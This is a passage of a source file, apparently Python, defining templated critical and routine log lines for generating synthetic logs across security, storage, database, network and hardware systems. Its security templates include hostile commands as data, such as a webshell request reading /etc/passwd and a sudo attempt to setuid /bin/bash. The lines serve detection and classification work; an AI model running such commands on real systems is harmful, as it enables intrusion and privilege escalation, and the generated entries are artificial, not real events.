R kernel: %(kt) [UFW BLOCK] IN=%(iface) OUT= MAC=%(mac) SRC=%(pubip) DST=%(ip) LEN=%(n:40-1500) PROTO=TCP SPT=%(port) DPT=%(|23|445|3389|5900) SYN
R haproxy[%(pid)]: Server %(svc)/%(host) is UP, reason: Layer7 check passed, code: 200, check duration: %(n:1-20)ms. %(n:1-9) active and 0 backup servers online.
R %(sys)ifup[%(pid)]: %(iface): link up, mtu 9000, speed 25000Mb/s full duplex
R tcpdump: %(n:1000-999999) packets captured, %(n:1000-999999) packets received by filter, 0 packets dropped by kernel
R bgpd[%(pid)]: %(ip) rcvd UPDATE: %(n:1-20) prefixes, max-prefix %(n:100000-900000) (%(n:1-40)% of limit)
"""

HARDWARE = r"""
C kernel: %(kt) {%(n:1-9)}[Hardware Error]: Hardware error from APEI Generic Hardware Error Source: %(n:0-3) event severity: fatal
C ipmitool sel: %(n) | %(usdate) | %(time) | Fan FAN%(n:1-8) | Lower Non-recoverable going low | Asserted
C redfish: Chassis/1/Power PowerSupplies/%(n:0-1) Status.Health=Critical State=UnavailableOffline (%(host))
C ilo: Fan %(n:1-8) failure detected; system fans are no longer redundant on %(host)
C bmc: Thermal trip on CPU%(n:0-1) (%(n:100-110) C); emergency power off initiated on %(host)
C coretemp: CPU%(n:0-1) temperature exceeds TjMax, hardware will power off %(host) to protect itself
C kernel: %(kt) NVRM: Xid (PCI:0000:%(pcibus)): 79, pid=%(pid), GPU has fallen off the bus.
C dcgm: GPU %(n:0-7) on %(hpcnode) has %(n:1-64) retired pages pending; reboot required, jobs failing with uncorrectable ECC
C kernel: %(kt) pcieport 0000:%(pcibus): AER: Uncorrected (Fatal) error received: 0000:%(pcibus)
C kernel: %(kt) mce: CPU%(n:0-127) offlined after uncorrectable machine check in bank %(n:0-27)
C LustreError: %(n:11-30)-0: %(lfs)-OST%(HEX:4)-osc-%(hex:16): operation ost_write to node %(ip)@o2ib failed: rc = -107; OST unavailable
C opensm[%(pid)]: ERR 3113: heavy sweep: %(n:20-400) nodes not responding on subnet, fabric partitioned
C slurmctld[%(pid)]: error: Node %(hpcnode) has low real_memory size (%(n:100000-250000) < %(n:500000-1000000)); node set to DRAIN, %(n:2-40) jobs killed
C nhc: node %(hpcnode) health check FAILED: /scratch not mounted, Lustre unreachable; node drained, %(n:1-30) jobs requeued
C ups: on battery, utility power lost; runtime remaining %(n:2-9) minutes (%(host))
C pdu: outlet %(n:1-24) on %(|pdu-a|pdu-b)-%(n:1-40) tripped circuit breaker; %(n:2-12) servers lost power
C idrac %(host): CPU0001 CPU %(n:1-2) has an internal error (IERR); system halted at %(ts)
C ib: %(hpcnode) mlx5_0 port 1 state DOWN; node unreachable by MPI, %(n:2-64)-node job %(n) aborted
C bmc: PSU%(n:1-2) failed (AC lost) and PSU%(n:1-2) degraded; server %(host) running without power redundancy
R kernel: %(kt) {%(n:1-9)}[Hardware Error]: Hardware error from APEI Generic Hardware Error Source: %(n:0-3) event severity: corrected
R redfish: Chassis/1/Thermal Fans/%(n:0-7) Status.Health=OK Reading=%(n:5000-14000) RPM
R ipmitool sensor %(host): PSU%(n:1-2)_Status | 0x1 | discrete | 0x0100| Presence detected
R bmc: fan zone %(n:0-3) duty adjusted to %(n:30-70)% (inlet %(n:18-28) C)
R dcgm: GPU %(n:0-7) on %(hpcnode) health check PASS (memory, pcie, nvlink, thermal)
R nvidia-persistenced[%(pid)]: device 0000:%(pcibus) - persistence mode enabled.
R slurmctld[%(pid)]: sched/backfill: Started JobId=%(n) in %(|batch|gpu|long|debug) on %(hpcnode)
R slurmd[%(pid)]: launch task StepId=%(n).%(n:0-9) request from UID:%(n:1000-60000) GID:%(n:1000-60000) HOST:%(ip) PORT:%(port)
R slurmctld[%(pid)]: node %(hpcnode) state set to IDLE after reboot (reason "kernel update")
R Lustre: %(lfs)-MDT0000: Recovery over after %(n:0-9):%(n:10-59), of %(n:10-999@c) clients %(n:10-999@c) recovered and 0 were evicted.
R Lustre: %(lfs)-OST%(HEX:4)-osc: Connection restored to %(ip)@o2ib (at %(ip)@o2ib)
R bios: POST complete, memory test passed (%(n:64-2048) GiB), %(n:2-4) CPUs detected
R firmware update of %(|BMC|BIOS|NIC) on %(host) completed, version %(n:1-9).%(n:0-99).%(n:0-99)
R thermal: package throttling event on CPU%(n:0-1) cleared after %(n:10-900) ms
R opensm[%(pid)]: SUBNET UP
R ibdiagnet: %(n) nodes, %(n) ports checked; symbol error counters below threshold, 0 links at degraded speed
R ups: self-test passed, battery %(n:90-100)% charged, runtime %(n:20-90) minutes
R ipmi: chassis intrusion cleared on %(host) after scheduled maintenance
R idrac %(host): LOG007 The previous log entry was repeated %(n:1-9) times.
R idrac %(host): PSU0800 Power supply %(n:1-2) input restored, redundancy regained
R cpupower: frequency governor set to performance on %(n:8-256) CPUs
R slurmctld[%(pid)]: job_complete: JobId=%(n) WTERMSIG 9 (user requested scancel)
R edac: %(hpcnode) corrected ECC %(n:1-9) on DIMM %(dimm), rate below replace threshold
"""

# Routine lines full of alarming words ("error", "fatal", "panic", "failed", "critical", ...).
ALARMING_WORDS = r"""
R %(svc): batch %(n) processed %(n) records, error=0, warnings=%(n:0-40)
R rsync: transfer of %(path) complete, errors: 0, files: %(n)
R backup: %(n) succeeded, 0 failed, %(n:0-9) skipped (%(dur))
R zpool: scrub on %(pool) completed in %(n:1-9)h%(n:10-59)m: no errors found
R logrotate: rotating log /var/log/%(svc)/error.log, log->rotateCount is %(n:4-52)
R logrotate[%(pid)]: rotating pattern: /var/log/%(svc)/*.log  after 1 days (%(n:7-30) rotations)
R %(sys)logrotate[%(pid)]: error: skipping "/var/log/%(svc)/*.log" because parent directory has insecure permissions (It's world writable or writable by group which is not "root") Set "su" directive in config file to tell logrotate which user/group should be used for rotation.
R build: compiled %(n) units, fatal errors: none, warnings: %(n:0-99)
R healthcheck %(svc): probe failed (%(n:1-2)/5), failure threshold not reached
R http-client: retry succeeded for %(apipath) after %(n:1-3) attempt(s) (%(dur))
R %(svc): connection reset by peer (client closed) while writing response to %(ip):%(port)
R DEPRECATED: option --%(|enable-legacy-tls|use-v1-api|old-metrics) is deprecated and will be removed in v%(n:2-9).0
R kernel: %(kt) Kernel command line: BOOT_IMAGE=/vmlinuz-%(kver) root=UUID=%(uuid) ro panic=0 quiet splash
R sysctl: kernel.panic = %(n:0-60), kernel.panic_on_oops = 0
R %(svc): log summary for the last hour: errcount=0 critical=0 fatal=0 warnings=%(n)
R alertmanager: RESOLVED [%(|HighErrorRate|DiskFull|InstanceDown|OOMKilled)] %(svc) on %(host), resolved after %(n:1-60)m
R alertmanager: silence %(uuid) created by %(user) for alertname=%(|OOMKilled|CrashLooping|NodeDown) in env=staging until %(ts)
R {"status":"ok","errors":[],"failed":0,"duration_ms":%(n:10-9999),"job":"%(svc)-sync"}
R %(svc): shutdown complete (SIGTERM), exit code 0
R chaos-monkey: terminated instance %(host) in staging as scheduled (game day %(date))
R dr-drill: simulated primary failure in staging cluster; failover completed in %(n:5-60)s, no data loss
R canary: error rate %(f:0.01-0.3:2)% (threshold 1%) for %(svc) v%(semver); promoting to 100%
R log-audit %(host): grep -c ERROR /var/log/%(svc)/app.log returned 0 (%(n:1000-900000) lines scanned)
R purge-failed-jobs: removed %(n) failed job records older than 30d
R dlq: dead letter queue %(svc)-dlq drained in %(dur), 0 messages remaining
R reporter: no critical alerts in the last 24h for %(|prod|staging|edge) (%(n) warnings)
R yamllint: %(n:2-400) files checked in %(dur), no error found
R %(svc): retrying in %(n:1-10)s (attempt 1/5): dial tcp %(ip):%(port): connect: connection refused
R circuit breaker for %(svc) closed again (error rate %(f:0.1-1)%, %(n) successful probes)
R mailer: sent "[CRITICAL] weekly capacity report" to %(email) (%(n) recipients)
R pgbouncer: closing because: client close request (age=%(n)s)
R supervisor: %(svc) stopped (terminated by SIGTERM; graceful reload requested by %(user))
R %(svc)[%(pid)]: WARNING: Please consider reporting this to the maintainers of %(|com.google.inject.internal.cglib|org.codehaus.groovy.reflection)
R %(path):%(n): DeprecationWarning: datetime.datetime.utcnow() is deprecated and scheduled for removal in a future version.
R %(svc): panic recovered in handler %(|/api/v1/export|/graphql|/webhooks); request %(uuid) returned 500, server continues
R smoke test: %(n:10-300) checks passed, 0 failed, 0 errors (%(dur))
R %(svc): error budget burn rate %(f:0.1-0.9:2)x over 1h (alert at 14.4x)
R %(tsn) [notice] %(pid)#%(pid): signal 1 (SIGHUP) received from %(pid), reconfiguring
R %(svc): FATAL log level disabled for module %(|http|db|cache); using ERROR as maximum
R test run: TestCrashRecovery, TestFatalSignals, TestPanicPaths: ok (%(n) tests, 0 failures)
R killed %(n:1-40) idle connections older than 300s (pool %(svc))
R %(svc): abort requested by client %(ip) (HTTP 499), upstream request cancelled
"""

# --------------------------------------------------------------------------------------------
# Second round: the same concepts in more phrasings and from more systems, so that the words
# that carry the meaning (lost, down, corrupt, expired, compromised / ok, restored, 0 errors)
# are shared by many templates instead of belonging to one.
# --------------------------------------------------------------------------------------------

SECURITY += r"""
C wazuh: Rule: %(n:5700-5799) (level 12) -> 'Multiple authentication failures: brute force attack against %(privuser)' srcip: %(pubip) count: %(n:200-5000)
C auth-guard: credential stuffing attack on /login: %(n:2000-90000) failed logins for %(n:500-9000) accounts from %(n:50-900) IPs in %(n:5-30)m
C osquery: unexpected root login on %(host) from %(pubip) (%(country)) with no open change ticket
C edr: privilege escalation detected: %(|pkexec|sudoedit|dirtypipe|overlayfs) exploit by uid %(n:1000-60000) spawned a root shell on %(host)
C auditd: privilege escalation: uid=%(n:1000-60000) executed setuid binary %(path) created %(n:1-9) minutes earlier, euid=0
C sysmon: unauthorized setuid root binary %(path) created by %(svcacct) on %(host)
C sophos: Malware detected: 'Linux/Miner-%(HEX:3)' in %(path); quarantine failed, file still present
C defender: Threat Backdoor:Linux/%(|Mirai|Tsunami|Gafgyt).%(HEX:2) detected in %(path); remediation failed
C maldet(%(pid)): malware hits %(n:1-90), cleaned 0: {HEX}php.cmdshell.%(|c99|r57|wso).%(n:1-999) in %(webpath)
C yara: rule %(|Webshell_PHP_Generic|Linux_Backdoor_Ebury|CobaltStrike_Beacon) matched %(path) on %(host); host considered compromised
C ossec: Alert Level 10; Rule 510 - Host-based anomaly detection (rootcheck): rootkit '%(|Adore|Knark|Suckit)' detected by the presence of its files on %(host)
C auditd[%(pid)]: audit log partition full (%(path)); auditd halting system per disk_full_action=HALT
C kernel: %(kt) audit: kauditd hold queue overflow, %(n:100-90000) audit records lost
C audit: backlog limit exceeded, audit events dropped (%(n) lost); security audit trail incomplete on %(host)
C selinux: SELinux switched to permissive (enforcing=0) by pid %(pid) uid %(n:0-60000) on production host %(host); unexpected, not in change window
C apparmor: profile %(|nginx|sshd|postgres) unloaded by unknown process on %(host); confinement removed
C directory: %(n:50-900) accounts locked out in %(n:2-10) minutes including Domain Admins; authentication outage
C okta: admin account %(email) locked out after %(n:20-200) rejected MFA pushes (MFA fatigue attack)
C cloud-audit: unexpected root console login to AWS account %(n:100000000000-999999999999) from %(pubip) (%(country)); no break-glass approval
C vault: unseal keys submitted from unknown host %(pubip); vault unsealed outside change window
C kms: key %(uuid) scheduled for deletion by %(user) from %(pubip); %(n:20-900) encrypted volumes depend on it
C tls-monitor: private key of %(domain) leaked on a paste site; certificate must be revoked now
C github-audit: deploy key with write access for %(svc) exposed in public gist %(hex:20); revoke immediately
C ssh-keys: authorized_keys of root on %(host) modified by %(svcacct) (pid %(pid)); unknown key added
C %(pubip) - - [%(tsd)] "GET /uploads/%(lc:6).php?cmd=cat+/etc/passwd HTTP/1.1" 200 %(n:900-3000) "-" "curl/8.5.0" (webshell executed commands)
C waf: SQL injection succeeded: response to %(pubip) contained %(n:1000-90000) rows from table %(table) (data exfiltration)
C dlp: %(n:1-90) GB of customer data uploaded to %(pubip) by %(user) outside business hours; data exfiltration suspected
C edr: ransomware behaviour on %(host): %(n:1000-90000) files renamed to *.%(lc:5) in %(n:1-9) minutes; host isolation failed
C ids: outbound beaconing from %(host) to %(pubip):%(port) every %(n:30-120)s matching a Cobalt Strike profile; host compromised
C %(sys)sudo[%(pid)]: %(svcacct) : 3 incorrect password attempts ; TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c chmod u+s /bin/bash
C %(sys)su[%(pid)]: FAILED SU (to root) %(svcacct) on none; %(n:30-500) attempts from the web server account (privilege escalation attempt)
C kernel: %(kt) %(|pkexec|passwd|chfn)[%(pid)]: exploited by uid %(n:1000-60000): root shell obtained (privilege escalation)
R wazuh: Rule: %(n:5500-5599) (level 3) -> 'PAM: Login session opened.' user: %(user) srcip: %(ip)
R wazuh: Rule: %(n:5400-5499) (level 3) -> 'Successful sudo to ROOT executed.' user: %(user) command: %(|apt update|systemctl restart nginx|journalctl -xe)
R sophos: scheduled scan completed on %(host): %(n:10000-900000) files scanned, no threats found
R defender: security intelligence updated to version 1.%(n:400-420).%(n:1-999).0; real-time protection on
R maldet(%(pid)): scan completed on %(path): files %(n), malware hits 0, cleaned hits 0
R yara: %(n:100-9000) rules compiled, scan of %(host) finished with 0 matches
R okta: user %(email) authenticated with MFA push (approved) from %(ip)
R okta: user %(email) completed self-service password reset
R directory: account %(user) unlocked automatically after lockout duration (15m)
R idp: session for %(email) expired after 12h; re-authentication required
R kms: key %(uuid) automatic annual rotation completed
R ssh-keys: host keys regenerated on first boot of %(host) (image build %(semver))
R selinux: enforcing mode, policy targeted reloaded (%(n:300-500) modules)
R apparmor: %(n:20-80) profiles are in enforce mode, %(n:0-5) in complain mode
R auditd[%(pid)]: audit daemon started; log_file %(path), max_log_file 50MB, space_left_action SYSLOG
R ids: %(n:10-900) port scan events from %(pubip) dropped at the edge firewall, no successful connections
R waf: %(n:100-9000) requests blocked from known scanner %(pubip) (OWASP CRS %(n:3-4).%(n:0-9))
R github-audit: secret scanning found 0 new alerts for org example in the last 24h (%(n:100-900) repositories, run %(uuid8))
R %(sys)sudo[%(pid)]: %(user) : TTY=pts/%(n:0-9) ; PWD=/srv/%(svc) ; USER=%(svcacct) ; COMMAND=/usr/bin/tail -f /var/log/%(svc)/app.log
R login[%(pid)]: pam_unix(login:session): session opened for user %(user) on tty1 (datacenter console, ticket %(tick))
R vault: core: vault is unsealed (3 of 5 key shares) after scheduled restart %(tick)
R edr: sensor heartbeat ok on %(host) (policy %(|servers-prod|workstations), version %(semver))
R keycloak: type=LOGIN_ERROR realmId=%(|corp|customers) clientId=%(svc) userId=%(uuid) ipAddress=%(pubip) error=invalid_user_credentials
R keycloak: type=LOGIN realmId=%(|corp|customers) clientId=%(svc) userId=%(uuid) ipAddress=%(ip) auth_method=openid-connect
"""

CERTIFICATES += r"""
C cert-monitor: CRITICAL certificate for %(domain) EXPIRED on %(date); HTTPS clients failing
C grpc: transport: authentication handshake failed: x509: certificate has expired; %(svc) cannot reach %(svc), all RPCs failing
C postfix/smtp[%(pid)]: TLS handshake failed for %(domain)[%(pubip)]:25: certificate verify failed: certificate has expired; %(n:100-9000) messages deferred
C istio: mesh root certificate expired at %(ts) in %(|prod|payments); %(n:20-900) sidecars rejecting all connections
C ldap-client: TLS: peer certificate untrusted or revoked; all LDAPS binds failing from %(host)
C openvpn[%(pid)]: VERIFY ERROR: depth=0, error=certificate has expired: CN=vpn.%(domain); no client can connect
C browser-probe: NET::ERR_CERT_DATE_INVALID for https://%(domain)/ from %(n:3-12) probe locations
C keystore: java.security.cert.CertificateExpiredException: NotAfter: %(ctime); %(svc) TLS listener refused to start
C cert-monitor: chain for %(domain) broken after renewal: served leaf does not match the private key; site down
C acme: renewal for %(domain) failed %(n:5-20) times; certificate expires in %(n:6-40) hours
R cert-monitor: OK certificate for %(domain) valid until %(date) (%(n:40-300) days left)
R grpc: transport: loaded new TLS keypair for %(svc) (serial %(HEX:16)), hot reload ok
R postfix/smtp[%(pid)]: Trusted TLS connection established to %(domain)[%(pubip)]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
R istio: workload certificate for %(ns)/%(pod) rotated, valid for 24h
R openvpn[%(pid)]: VERIFY OK: depth=1, CN=corp-vpn-ca
R keystore: truststore %(path) reloaded, %(n:3-40) entries, none expiring within 30 days
R acme: order for %(domain) finalized, certificate issued, next renewal in 60 days
R cert-monitor: certificate for %(domain) expires in %(n:25-29) days; auto-renewal scheduled
R ldap-client: TLS established with %(host):636 (TLSv1.3), certificate valid
R kubeadm: certs check-expiration: all certificates valid for more than %(n:180-360) days
"""

STORAGE += r"""
C kernel: %(kt) XFS (%(part)): Filesystem has been shut down due to log error (0x2). Please unmount the filesystem and rectify the problem(s)
C %(svc)[%(pid)]: open %(path): read-only file system (EROFS); cannot persist state, requests failing
C nas: volume %(|vol1|data|share) crashed: RAID %(|5|6) array degraded and rebuild failed on disk %(n:1-12)
C ceph: OSD_DOWN: %(n:3-12) osds down on %(n:2-4) hosts; %(n:10-400) pgs inactive, client I/O blocked
C minio: drive %(path) offline, erasure set %(n:1-16) lost write quorum; uploads failing
C hdfs: NameNode in safe mode: %(n:1000-90000) missing blocks, %(n:10-900) corrupt files; writes refused
C zfs: pool %(pool) state UNAVAIL: insufficient replicas, vdev %(disk) FAULTED with too many errors
C backup: restore test failed: archive %(path) corrupt (checksum mismatch), last good backup %(n:8-40) days old
C netapp %(host): aggregate aggr%(n:0-9) is 100% full; %(n:2-30) volumes going offline
C s3-writer: bucket %(|backups|media|invoices) write failures for %(n:10-60)m (503 SlowDown), %(n:1000-90000) objects not persisted
C raid-monitor: %(disk) failed predictive failure check; array has no hot spare and is running degraded
C dm-crypt: %(|cryptdata|luks-home): device read error at sector %(n); data unreadable
C disk-monitor: %(path) out of space (0 bytes free); %(svc) writes failing with ENOSPC
R kernel: %(kt) XFS (%(part)): Quotacheck: Done.
R nas %(host): scheduled RAID scrubbing on volume %(|vol1|data) completed in %(dur), no errors found
R ceph: all %(n:12-300) osds up and in; %(n) pgs active+clean
R minio: healing of erasure set %(n:1-16) completed: %(n) objects healed, 0 failed
R hdfs: NameNode %(host) left safe mode after startup; 0 missing blocks, %(n) blocks reported
R zfs: pool %(pool) on %(host) state ONLINE, all vdevs healthy
R backup: restore test of %(path) passed (checksum verified, %(size))
R netapp: aggregate aggr%(n:0-9) at %(n:40-70)% capacity, dedupe saved %(size)
R s3-lifecycle: rule expired %(n) objects in bucket %(|logs|tmp-uploads) (scheduled)
R raid-monitor: hot spare %(disk) assigned and rebuild finished successfully
R %(sys)systemd-cryptsetup[%(pid)]: %(|cryptdata|luks-home) opened with keyfile, cipher aes-xts-plain64
R disk-monitor: %(path) at %(n:20-70)% used, %(size) free
R fsck: /dev/%(part) checked at boot: clean, no repairs needed
"""

MEMORY += r"""
C %(sys)systemd[1]: %(svc).service: A process of this unit has been killed by the OOM killer.
C %(sys)systemd[1]: %(svc).service: Failed with result 'oom-kill'.
C # There is insufficient memory for the Java Runtime Environment to continue. # Native memory allocation (mmap) failed to map %(n) bytes for committing reserved memory. (%(svc))
C %(svc) crashed: MemoryError; process exited with status 1 after %(n:1-90)m (heap %(size))
C FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory (%(svc) pid %(pid))
C Unhandled exception. System.OutOfMemoryException: Insufficient memory to continue the execution of the program. (%(svc))
C bmc: uncorrectable memory error on DIMM %(dimm); system rebooted by hardware on %(host)
C k8s-events: %(n:5-60) pods OOMKilled on node %(node) in the last 10m; node under memory pressure
C memcached %(host):11211: out of memory storing object; all slabs full, %(n:100-90000) SET commands failing
C hypervisor: host %(host) memory overcommitted and balloon driver exhausted; %(n:2-30) VMs swapping heavily
R %(sys)systemd[1]: %(svc).service: Consumed %(f:1-900) s CPU time, %(n:20-4000)M memory peak.
R [%(f:1-90000:3)s][info][gc] GC(%(n)) Pause Young (Normal) (G1 Evacuation Pause) %(n:100-9000)M->%(n:100-9000)M(%(n:1000-16000)M) %(f:1-90:3)ms
R node: heap used %(n:50-900) MB of %(n:1000-4000) MB, gc ok
R memcached: %(n:0-9) evictions in the last hour, hit rate %(f:80-99)%
R kernel: %(kt) EDAC MC%(n:0-7): Giving out device to module %(|skx_edac|i10nm_edac) controller %(|Skylake_Socket0|Icelake_IMC1): DEV 0000:%(pcibus) (INTERRUPT)
R hypervisor: host %(host) memory usage %(n:30-75)%, balloon target reached, no swapping
R vpa: recommendation for %(svc): memory request %(n:100-900)Mi -> %(n:100-900)Mi
R tracemalloc: top allocation %(path):%(n) size=%(size) count=%(n)
R memtest: memory test passed on %(n:8-64) DIMMs (%(n:64-2048) GiB), 0 errors
"""

DATABASES += r"""
C pg_ctl: server on %(host) did not start in time; database %(db) down, clients get connection refused
C %(mysqlts) 0 [ERROR] [MY-%(n:10000-13999)] [InnoDB] Unable to lock ./ibdata1 error: 11; database cannot start
C %(mysqlts) %(n) [ERROR] [MY-%(n:10000-13999)] [Server] Got error 28 from storage engine (No space left on device) on table %(db).%(table)
C mongo-monitor: replica set %(|rs0|rs-orders) has no PRIMARY for %(n:2-30)m; all writes failing
C redis-failover: master %(ip):6379 is down and failover failed: no good replica to promote
C elasticsearch: cluster health RED: %(n:1-90) primary shards unassigned, indices %(|orders|logs-app) unavailable
C etcdserver: request timed out, possibly due to previous leader failure; cluster unavailable for %(n:1-30)m
C replication: replica %(host) is %(n:3600-90000)s behind primary and lag keeps growing; failover target unsafe
C db-backup: WAL archiving failing for %(n:2-24)h (archive_command exit 1); point-in-time recovery impossible
C %(pgts) [%(pid)] ERROR:  index "%(table)_pkey" contains unexpected zero page at block %(n); table corrupted
C dynamodb: %(table) throttled: %(n:1000-90000) write requests rejected in 5m (ProvisionedThroughputExceeded); orders not saved
C cassandra-monitor: %(n:2-5) of %(n:3-6) nodes DOWN in datacenter %(|dc1|eu-west); QUORUM reads failing
C %(tsd).%(n:10-99) spid%(n:5-300)s Database '%(db)' is marked SUSPECT; recovery could not be completed.
C zookeeper %(host): quorum lost: %(n:1-2) of %(n:3-5) servers reachable; ensemble not serving requests
R pg_ctl: server on %(host) started; database %(db) accepting connections
R %(mysqlts) 0 [Note] [MY-%(n:10000-13999)] [InnoDB] page_cleaner: 1000ms intended loop took %(n:1001-9000)ms. The settings might not be optimal.
R mongo-monitor: replica set %(|rs0|rs-orders) primary is %(host), all %(n:3-5) members healthy
R redis-failover: sentinel configuration saved; monitoring master %(ip):6379 with %(n:2-3) replicas
R elasticsearch: cluster health GREEN, %(n) active shards, 0 unassigned
R etcdserver: compacted raft log at index %(n), defragmentation finished in %(dur)
R replication: replica %(host) lag %(n:0-3)s, within threshold
R db-backup: WAL archiving ok, last archived segment %(HEX:24) %(n:1-59)s ago
R %(pgts) [%(pid)] LOG:  temporary file: path "base/pgsql_tmp/pgsql_tmp%(n).%(n:0-9)", size %(n)
R dynamodb: auto scaling raised write capacity of %(table) to %(n:100-9000)
R cassandra-monitor: all %(n:3-12) nodes UN (up/normal) in datacenter %(|dc1|eu-west)
R %(tsd).%(n:10-99) spid%(n:5-300)s Recovery completed for database %(db) (database ID %(n:5-99)) in %(n:1-90) second(s). This is an informational message only.
R zookeeper: leader election complete, %(host) is LEADING with %(n:2-4) followers
R flyway: Successfully applied %(n:1-9) migrations to schema "public", now at version v%(n:100-400)
R liquibase: Update has been successful. Rows affected: %(n)
"""

CONTAINERS += r"""
C kubelet: pod %(ns)/%(pod) failed liveness probe %(n:30-300) times and keeps restarting; service %(svc) has 0 ready endpoints
C k8s-events: %(n:5-40) pods in %(ns) stuck in CrashLoopBackOff after release %(semver); checkout unavailable
C Warning  FailedScheduling  pod/%(pod)  0/%(n:10-90) nodes are available: %(n:10-90) node(s) had untolerated taint {node.kubernetes.io/disk-pressure: }; %(n:5-60) pods pending
C kubelet: node %(node) DiskPressure: imagefs available %(n:1-4)%, evicting pods from %(ns)
C endpoints-watch: service %(ns)/%(svc) has no ready endpoints for %(n:5-60)m; ingress returning 503
C docker-monitor: daemon not responding on %(host): containerd socket timeout, %(n:10-90) containers unhealthy
C argo-rollouts: rollout %(svc) aborted and Degraded: 0 stable pods (image %(img) not found)
C kube-proxy: failed to sync iptables rules: %(n:100-900) services unreachable from node %(node)
C kubelet: Failed to pull image "%(img)": unauthorized: authentication required; registry credentials expired, all deploys failing
C control-plane: apiserver %(ip):6443 connection refused on all %(n:3-5) masters; cluster unavailable
C swarm: manager quorum lost (1 of 3 managers reachable, %(host) down); cluster cannot schedule tasks
R kubelet: pod %(ns)/%(pod) ready; %(n:1-9@c)/%(n:1-9@c) containers running
R k8s-events: release %(semver) of %(svc) rolled out, %(n:2-30) pods ready, 0 restarts
R kube-scheduler: pod %(ns)/%(pod) nominated on %(node) after preemption of 1 low-priority pod
R kubelet: node %(node) conditions: MemoryPressure=False DiskPressure=False PIDPressure=False Ready=True
R endpoints-watch: service %(ns)/%(svc) now has %(n:2-30) ready endpoints
R docker-monitor: system prune reclaimed %(size) (dangling images and stopped containers)
R argo-rollouts: rollout %(svc) step %(n:1-8)/8 completed, canary weight %(n:10-90)%
R kube-proxy: synced %(n:100-900) services, %(n:1000-9000) iptables rules in %(n:50-900)ms
R crictl rmi: removed unused image %(img)
R swarm: service %(svc) converged: %(n:2-20@c)/%(n:2-20@c) tasks running
R cronjob %(ns)/%(svc)-nightly: created job %(svc)-nightly-%(n), completed in %(dur)
R keda: scaled object %(ns)/%(svc) scaled deployment from %(n:1-9) to %(n:1-30) replicas (queue length %(n))
R kubelet: MountVolume.SetUp succeeded for volume "%(|data|cache|config)" pod="%(ns)/%(pod)"
"""

NETWORK += r"""
C rpd[%(pid)]: BGP peer %(ip) (External AS %(n:64512-65534)) changed state from Established to Idle (event HoldTime); transit routes lost
C %(host) Ebra: ETH-4-UPLINK_DOWN: uplink Ethernet49/1 to spine%(n:1-4) down, Port-Channel100 has 0 active members
C dns-monitor: resolver %(ip) returning SERVFAIL for %(n:90-100)% of queries for %(n:2-30)m; service discovery broken
C netwatch: %(host) lost its default gateway %(ip) (ARP incomplete); host unreachable
C firewall: HA pair %(|fw-a|fw-b)-%(n:1-20) split brain: both units active, traffic blackholed
C lb: all members of pool %(svc)-pool are down; VIP %(ip):443 serving errors
C vpn: IPsec tunnel to %(|aws-vpc|branch-office|dc2) DOWN for %(n:5-60)m (dead peer detection)
C netmon: interface %(iface) on %(host) error rate %(n:5-40)% (%(n) CRC errors in 60s); link flapping
C ntp-monitor: all NTP servers unreachable for %(n:2-24)h; clock drift %(n:2-90)s, TLS and Kerberos failing
C cdn: origin %(domain) unreachable from all POPs; %(n:90-100)% 5xx at the edge
C kernel: %(kt) %(iface): Detected Tx Unit Hang, adapter reset failed; link down
C dhcp-monitor: scope %(ip)/24 exhausted (0 free addresses); new clients cannot get an address
R rpd[%(pid)]: BGP peer %(ip) (External AS %(n:64512-65534)) changed state from OpenConfirm to Established (event RecvKeepAlive)
R %(host) Ebra: ETH-4-UPLINK_UP: uplink Ethernet49/1 to spine%(n:1-4) up, Port-Channel100 has %(n:2-4) active members
R dns-monitor: resolver %(ip) answered %(n) queries, SERVFAIL 0.0%, cache hit %(f:60-99)%
R firewall: HA pair %(|fw-a|fw-b) in sync, %(host) active, peer standby
R lb: pool %(svc)-pool: %(n:2-20@c)/%(n:2-20@c) members up
R vpn: IPsec SA for tunnel %(|aws-vpc|branch-office) rekeyed successfully (spi 0x%(hex:8))
R netmon: interface %(iface) on %(host): 0 errors, 0 drops, utilisation %(n:1-70)%
R ntp-monitor: clock synchronised to %(ip), offset %(f:0.01-5:3) ms, stratum %(n:2-3)
R cdn: cache purge for %(domain) completed in %(n:1-60)s (%(n) objects)
R kernel: %(kt) %(iface): Link is Up - 25Gbps/Full - flow control rx/tx
R dhcp-monitor: scope %(ip)/24 utilisation %(n:10-80)% (%(n:20-200) free)
R netwatch: gratuitous ARP sent for VIP %(ip) after planned failover to %(host)
"""

HARDWARE += r"""
C bmc: power supply %(n:1-2) failed on %(host); no input power, redundancy lost
C pdu-monitor: inlet current %(n:30-50)A exceeds upper critical threshold on %(|pdu-a|pdu-b)-%(n:1-40); breaker trip imminent
C bmc: CPU%(n:0-1) VR fault on %(host): voltage out of range, system powered off
C ras: uncorrectable PCIe error on NIC 0000:%(pcibus), device disabled on %(host)
C chassis: inlet temperature %(n:45-60) C in rack %(n:1-40) (critical 45 C); cooling failure in row %(|A|B|C)
C crac: cooling unit CRAC-%(n:1-9) compressor failure; room temperature rising %(f:0.5-3)C/min
C gpu-health: GPU %(n:0-7) on %(hpcnode) NVLink down, %(n:2-12) links failed; node removed from scheduling
C hpc: %(n:10-400) compute nodes lost power in rack %(n:1-40); running jobs failed
C enclosure: enclosure %(n:1-8) both controllers offline; %(n:12-84) drives inaccessible
C bmc: watchdog timer expired on %(host); hard reset performed, OS hung
C ipmi: %(host) Processor CPU%(n:0-1) Status: IERR asserted; host stopped responding
C fan-controller: all fans in chassis %(n:1-12) stopped; emergency thermal shutdown in %(n:10-60)s
C slurm-monitor: %(n:20-400) nodes DOWN (Not responding) in partition %(|batch|gpu); scheduler draining the queue
R bmc: power supply %(n:1-2) present, input %(n:200-240)V, output ok
R pdu-monitor: inlet current %(f:3-16)A, within thresholds
R chassis: inlet temperature %(n:18-27) C in rack %(n:1-40), ok
R crac: cooling unit CRAC-%(n:1-9) running, supply air %(n:15-22) C
R gpu-health: GPU %(n:0-7) on %(hpcnode) NVLink %(n:2-12@c)/%(n:2-12@c) links up
R hpc: rack %(n:1-40) power cap set to %(n:20-60) kW for maintenance window
R enclosure: enclosure %(n:1-8) controller A firmware %(semver) active, all drives online
R bmc: watchdog timer armed (%(n:60-600)s) by OS agent on %(host)
R ipmi: %(host) SEL cleared by %(user) after hardware replacement
R fan-controller: chassis %(n:1-12) fans at %(n:30-60)%, all nominal
